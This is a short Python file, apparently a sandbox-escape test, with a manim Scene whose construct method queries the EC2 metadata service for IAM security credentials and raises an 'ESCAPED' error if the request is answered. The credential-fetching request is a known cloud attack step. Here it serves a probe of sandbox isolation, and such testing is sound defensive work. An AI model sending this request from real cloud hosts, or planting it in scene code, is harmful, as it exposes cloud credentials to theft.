"""B2: the cloud metadata service (IAM credentials on EC2)."""

import urllib.request

from manim import Scene


class NetMetadata(Scene):
    def construct(self):
        url = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
        with urllib.request.urlopen(url, timeout=3) as reply:
            raise RuntimeError(f"ESCAPED: metadata answered {reply.read(200)!r}")
